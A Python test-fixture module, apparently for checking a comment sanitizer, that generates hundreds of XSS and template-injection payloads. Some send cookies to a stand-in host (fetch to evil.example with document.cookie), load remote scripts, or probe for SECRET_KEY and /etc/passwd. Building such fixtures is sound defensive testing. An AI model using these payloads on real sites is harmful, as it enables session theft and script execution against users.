"""
What people type who want their words to run: each family of tricks, in every place that it has.

PAYLOADS go into comments and names, WEBSITES into the field of that name. All of them call one of
the functions in CANARIES, or leave for evil.example, where they succeed.
"""

from itertools import product

from articles.sanitize import COMMENT_TAGS

CANARIES = ["alert", "confirm", "prompt", "canary"]
RUN = "alert(1)"
IMG = f"<img src=x onerror={RUN}>"


def event_handlers():
    """Elements that call by themselves: when they load, fail, are focused or begin to move."""
    for element in (
        "img src=x onerror", "image src=x onerror", "svg onload", "body onload", "style onload",
        "iframe onload", "embed src=/ onload", "object data=x onerror", "script src=x onerror",
        "link rel=stylesheet href=x onerror", "input type=image src=x onerror",
        "video src=x onerror", "audio src=x onerror", "video><source onerror",
        "track src=x onerror",
        "details open ontoggle", "marquee onstart", "input autofocus onfocus",
        "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus",
        "a href=# autofocus onfocus", "x contenteditable autofocus onfocus", "b tabindex=0 onfocus",
        "svg><animate onbegin", "svg><set onbegin", "svg><script onerror href=x",
        "p onclick", "b onmouseover", "a href=http://a.example onclick", "q onpointerrawupdate",
        "blockquote oncopy", "ul onwheel", "pre onscroll",
        "code oncontentvisibilityautostatechange",
        "form><input formaction=x onsubmit", "frameset onload", "math onload",
        "dialog open onclose",
        "p style=animation-name:x onanimationstart", "p popover onbeforetoggle", "menu onshow",
    ):  # fmt: skip
        yield f"<{element}={RUN}>"
        yield f'<{element}="{RUN}" x'  # never closed
    yield f"<p onclick={RUN}>x</p>" * 40


def spellings():
    """One element, written in all the ways that browsers still read."""
    for between in (
        " ",
        "/",
        "\t",
        "\n",
        "\r",
        "\f",
        "  ",
        "/x=1/",
        "/ /",
        "\x0b",
        "\xa0",
        "\u3000",
    ):
        yield f"<img{between}src=x{between}onerror={RUN}{between}>"
        yield f"<svg{between}onload={RUN}>"
    for quote in ('"', "'", "`", "“", "&quot;", "&#39;"):
        yield f"<img src={quote}x{quote} onerror={quote}{RUN}{quote}>"
        yield f"<a href={quote}javascript:{RUN}{quote}>x</a>"
    for name in (
        "ScRiPt",
        "SCRIPT",
        "script/",
        "script\n",
        "script ",
        "scr\u200bipt",
        "scr<!---->ipt",
    ):
        yield f"<{name}>{RUN}</{name}>"
        yield f"<{name} src=//evil.example/x.js></{name}>"
    for code in ("confirm`1`", "top['al'+'ert'](1)", "import('//evil.example/x.js')",
    "[1].map(alert)",
                 "&#97;lert(1)", "al\\u0065rt(1)", "eval(atob('YWxlcnQoMSk='))",
                 "window.onerror=alert;throw 1",
                 "fetch('//evil.example/?'+document.cookie)", "setTimeout`alert\\x281\\x29`",
                 "canary()"):  # fmt: skip
        yield f"<img src=x onerror={code}>"
        yield f"<script>{code}</script>"
    yield "<<script>alert(1)//<</script>"
    yield "<scr<script>ipt>alert(1)</scr</script>ipt>"
    yield "<script>alert(1)"
    yield f"<img src=x onerror\n=\n{RUN}"
    yield f"< img src=x onerror={RUN}>"
    yield f"</img src=x onerror={RUN}>"
    yield f"<img src=x:x onerror={RUN}//"
    yield f"<b/onclick={RUN}><b\\onclick={RUN}>"


def schemes():
    """Addresses that run, or lead away, in every element that takes one."""
    addresses = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)", "java\nscript:alert(1)", "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
        "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
        "javascript://a.example/%0aalert(1)", "javascript:/*http://*/alert(1)",
        "javaſcript:alert(1)",
        "javascript\u200b:alert(1)", "javascript\u00ad:alert(1)", "ｊavascript:alert(1)",
        "vbscript:alert(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:http://a.example/1",
        "data:image/svg+xml,<svg onload=alert(1)>", "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/", "//evil.example/",
        "\\\\evil.example\\", "/\\evil.example", "http:javascript:alert(1)",
        "https:\\\\evil.example",
        "?x=javascript:alert(1)", "#x", "filesystem:http://a.example/x",
    ]  # fmt: skip
    for address in addresses:
        yield f'<a href="{address}">x</a>'
        yield f"<a href='{address}' title='x\">{IMG}'>x</a>"
    for element, address in product(
        (
            '<iframe src="{}">', '<object data="{}">', '<embed src="{}">',
            '<form action="{}"><button>x',
            '<button formaction="{}">x', '<base href="{}">',
            '<meta http-equiv=refresh content="0;url={}">',
            '<link rel=import href="{}">', '<svg><a xlink:href="{}"><text>x',
            '<svg><use href="{}#x">',
            '<math href="{}">x', '<area href="{}">', '<body background="{}">',
            '<img srcset="{} 1x">',
            '<video poster="{}">', '<blockquote cite="{}">x</blockquote>', '<q cite="{}">x</q>',
            '<del cite="{}">x</del>', '<ins cite="{}">x</ins>', '<applet code="{}">',
            '<bgsound src="{}">',
        ),
        ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x"),
    ):  # fmt: skip
        yield element.format(address)


def mutations():
    """Markup that one parser reads as text and the next as elements."""
    raw = ("style", "title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe",
    "template",
           "plaintext", "listing", "script", "select", "table")  # fmt: skip
    around = ("{}", "<svg>{}", "<math>{}", "<math><mtext>{}", "<svg><desc>{}",
    "<svg><foreignObject>{}",
              "<math><annotation-xml encoding=text/html>{}",
              "<math><mtext><table><mglyph>{}")  # fmt: skip
    for name, outer in product(raw, around):
        yield outer.format(f'<{name}><a title="</{name}>{IMG}">')
    for comment in ("<!--{}-->", "<!-->{}-->", "<!--->{}-->", "<!--!>{}--!>", "<!-- --!>{}",
    "<![CDATA[{}]]>",
                    "<?xml {}?>", "<!DOCTYPE x [{}]>", "<![if IE]>{}<![endif]>", "<%{}%>", "</{}>",
                    "<!{}>"):  # fmt: skip
        yield comment.format(IMG)
        yield "<svg>" + comment.format(f"</svg>{IMG}")
    yield f"<form><math><mtext></form><form><mglyph><style></math>{IMG}"
    title = IMG.replace("<", "&lt;").replace(">", "&gt;")
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{title}'>"
    yield f'<svg></p><style><a id="</style>{IMG}">'
    yield f"<b><p><table><b><p></table>{IMG}"
    yield f"<a><a><a>{IMG}</a></table></a><svg><a>{IMG}"
    yield "<ul><li>" * 30 + IMG
    yield "<blockquote>" * 30 + IMG
    yield f"<li>{IMG}</li></ol></li></ol></section></main>{IMG}"
    yield "</p></div></article></li></ol></section><li id=comment-1>forged"


def links():
    """What becomes a link by itself, next to markup that would break out of it."""
    for tail in (
        '"onmouseover="alert(1)', "'onmouseover='alert(1)", f"{IMG}", f'">{IMG}', f"'>{IMG}",
        "<script>alert(1)</script>",
        "&quot;onclick=alert(1)&quot;", "&#34;onclick=alert(1)&#34;", "%22onclick=alert(1)",
        "\u2028onclick=alert(1)",
        "`onclick=alert(1)`", "?a=<svg/onload=alert(1)>", "#</a><img src=x onerror=alert(1)>",
    ):  # fmt: skip
        for address in ("http://a.example/", "www.a.example/", "https://a.example@evil.example/"):
            yield address + tail
    for inner in (
        "<a href=javascript:alert(1)>x</a>",
        "http://b.example/",
        IMG,
        "<svg/onload=alert(1)>",
    ):
        yield f"<a href=http://a.example>{inner}</a>"
        yield f"<a href=http://a.example>x <a href=http://b.example>{inner}</a></a>"
    yield "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>"
    yield "<http://a.example onclick=alert(1)> <mailto:a@b.example?x=%22onclick=alert(1)>"


def styles():
    for style in (
        "background:url(javascript:alert(1))", "width:expression(alert(1))",
        "-moz-binding:url(//evil.example/x)",
        "behavior:url(//evil.example/x.htc)", "position:fixed;inset:0;z-index:99",
        "background:url(//evil.example/x)",
        "@import'//evil.example/x.css'", "color:red;}</style><script>alert(1)</script>",
        "list-style:url(//evil.example)",
    ):  # fmt: skip
        yield f'<p style="{style}">x</p>'
        yield f"<style>*{{{style}}}</style>"
        yield f"<b class=masthead id=comments style='{style}'>x</b>"


def breakouts():
    """Ends of whatever the words may stand in, and what would come after."""
    for end in ('"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "*/", "</textarea>", "</title>",
    "</style>",
                "</script>", "</a>", "</bdi>", "</time>", "</li>", "</noscript>", "\\\"",
                "&quot;>", "\n\n", ");"):  # fmt: skip
        yield f"{end}{IMG}"
        yield f"{end} autofocus onfocus={RUN} x={end}"
        yield f"{end}<script>{RUN}</script>"


def templates():
    """Languages of templates, on the server or in a page."""
    yield from (
        "{{7*7}}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}",
        "{# x #}", "{{'<b>'|safe}}",
        "{% csrf_token %}{{ request.META }}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>",
        "[[7*7]]", "{{{7*7}}}",
        "%(name)s %s %d {0} {comment.commenter.email}",
        "{{constructor.constructor('alert(1)')()}}", "$(alert(1))",
        "<p ng-app ng-init=alert(1)>{{$eval.constructor('alert(1)')()}}</p>",
        "<p x-init=alert(1) x-data>x</p>",
        "<p v-html='\"<img src=x onerror=alert(1)>\"' @click=alert(1)>x</p>",
        "<p hx-get=//evil.example hx-trigger=load>",
        "<p data-controller=x data-action=alert(1)>x</p>",
        "<b is=x-y slot=z part=p exportparts=q>x</b>", "<!--#exec cmd=x-->",
    )  # fmt: skip


def codes():
    """Angle brackets in other clothes."""
    for less, greater in (
        ("&lt;", "&gt;"), ("&#60;", "&#62;"), ("&#x3c;", "&#x3e;"), ("&#x00003C", "&#x00003E"),
        ("&LT", "&GT"),
        ("&amp;lt;", "&amp;gt;"), ("%3C", "%3E"), ("\\u003c", "\\u003e"), ("\\x3c", "\\x3e"),
        ("+ADw-", "+AD4-"),
        ("＜", "＞"), ("‹", "›"), ("\u02c2", "\u02c3"), ("\ufe64", "\ufe65"), ("¼", "¾"),
        ("<\u200b", ">"),
        ("<\ufeff", ">"), ("<\u0301", ">"), ("\u202e>", "<"), ("<\u2066", "\u2069>"),
        ("<\U000e0001", ">"),
    ):  # fmt: skip
        yield f"{less}script{greater}{RUN}{less}/script{greater}"
        yield f"{less}img src=x onerror={RUN}{greater}"
    yield from (
        "<ſcript>alert(1)</ſcript>",
        "<İmg src=x onerror=alert(1)>",
        "<ıframe onload=alert(1)>",
        "<lin\u212a rel=x>",
    )


def attributes():
    """Elements that comments may hold, with what they may not."""
    for tag, attribute in product(
        sorted(COMMENT_TAGS),
        (
            f"onclick={RUN} onmouseenter={RUN}",
            "id=commentform name=elements class=masthead",
            "style=position:fixed;inset:0",
        ),
    ):
        yield f"<{tag} {attribute}>x</{tag}>"


FAMILIES = [
    event_handlers, spellings, schemes, mutations, links, styles, breakouts, templates, codes,
    attributes,
]  # fmt: skip
PAYLOADS = list(dict.fromkeys(payload for family in FAMILIES for payload in family()))
WEBSITES = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "vbscript:alert(1)", "javascript://a.example/%0aalert(1)", "//evil.example",
    "data:text/html,<script>alert(1)</script>", "blob:http://a.example", "ftp://a.example/",
    "http://a.example/\"onclick=alert(1)", "http://a.example/'onclick='alert(1)",
    "http://a.example/><img src=x onerror=alert(1)>", "http://a.example/`onclick=alert(1)`",
    "http://a.example/?x=\" onfocus=alert(1) autofocus x=\"", "http://a.example/{{7*7}}",
    "http://a.example/#</a><script>alert(1)</script>", "http://a.example\\@evil.example/",
    "http://javascript:alert(1)@a.example/", "https://a.example/%22onclick=alert(1)",
    "http://a.example/&quot;onclick=alert(1)&quot;", "http://a.example/\u202eevil",
    "http://xn--javascript-alert(1).example/", "http://[::1]/", "a.example/<b>",
]  # fmt: skip
